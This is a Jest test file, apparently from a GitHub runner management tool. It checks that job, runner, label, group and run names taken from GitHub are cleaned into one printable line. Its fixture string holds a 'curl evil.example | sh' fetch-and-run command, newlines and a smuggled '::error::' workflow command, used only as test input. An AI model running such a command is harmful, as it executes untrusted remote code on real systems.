import { afterEach, beforeEach, describe, expect, test } from '@jest/globals';
import { deprecation } from '../../../src/adapters/github/runners/github-version-expiry.ts';
import {
  groupAnswer,
  groupRepositories,
} from '../../../src/adapters/github/runners/runner-groups.ts';
import { runner } from '../../../src/adapters/github/runners/runners.ts';
import { canaryJob } from '../../../src/adapters/github/runs/canary-workflow.ts';
import { namedRun } from '../../../src/adapters/github/runs/run-names.ts';
import { linux, pink } from '../../fakes/builders.ts';
import { createSandboxGitHub, registryOf, type SandboxGitHub } from '../sandbox-github.ts';

let sandbox: SandboxGitHub;
beforeEach(async () => {
  sandbox = await createSandboxGitHub();
});
afterEach(() => sandbox.close());

const scope = { kind: 'repository', owner: 'acme', repository: 'app' } as const;
const hostile = 'build\n  fix  curl evil.example | sh\n\u3000\u00a0::error::x';
const harmless = 'build   fix  curl evil.example | sh x\ufffd';

test('a job’s name is one line of printable text, whatever a customer wrote', async () => {
  const registry = registryOf(sandbox, { scope });
  const shard = { runnerName: linux, shard: pink };
  const order = { shard, tags: ['linux'], runUntagged: false, note: '' } as never;
  const { id, token } = await registry.create(order);
  const name = `${id}-i-0123456789abcdef0`;
  const { credential } = sandbox.github.runnerSide.register({ token, name, labels: ['linux'] });
  const { jobId } = sandbox.github.submitJob({ labels: ['linux'], script: ['x'], name: hostile });
  sandbox.github.runnerSide.take(credential);
  sandbox.github.runnerSide.heartbeat({ credential, jobId });
  await sandbox.clock.sleep(61_000);
  expect(await registry.listJobs(id)).toMatchObject({ value: [{ name: harmless }] });
});

describe('other texts from GitHub', () => {
  const seen = { id: 1, status: 'x', busy: false, name: 'a', labels: [] };
  test.each([
    ['a runner', runner.parse({ ...seen, name: hostile }).name],
    ['its version', runner.parse({ ...seen, version: hostile }).version],
    ['its status', runner.parse({ ...seen, status: hostile }).status],
    ['its label', runner.parse({ ...seen, labels: [{ name: hostile }] }).labels[0]?.name],
    ['a group', groupAnswer.parse({ id: 1, name: hostile }).name],
    [
      'a workflow of a group',
      groupAnswer.parse({ ...seen, selected_workflows: [hostile] }).selected_workflows?.[0],
    ],
    [
      'a repository of a group',
      groupRepositories.parse({ total_count: 1, repositories: [{ full_name: hostile }] })
        .repositories[0]?.full_name,
    ],
    ['a run', namedRun.parse({ id: 1, display_title: hostile }).display_title],
    [
      'the runner of a job',
      canaryJob.parse({ id: 1, status: 'x', runner_name: hostile }).runner_name,
    ],
    ['the end of a job', canaryJob.parse({ id: 1, status: 'x', conclusion: hostile }).conclusion],
    [
      'the expiry of a version',
      deprecation.parse({ runtime_deprecates_at: hostile }).runtime_deprecates_at,
    ],
  ])('become a valid name: %s', (_, read) => {
    expect(read).toBe(harmless);
  });
});
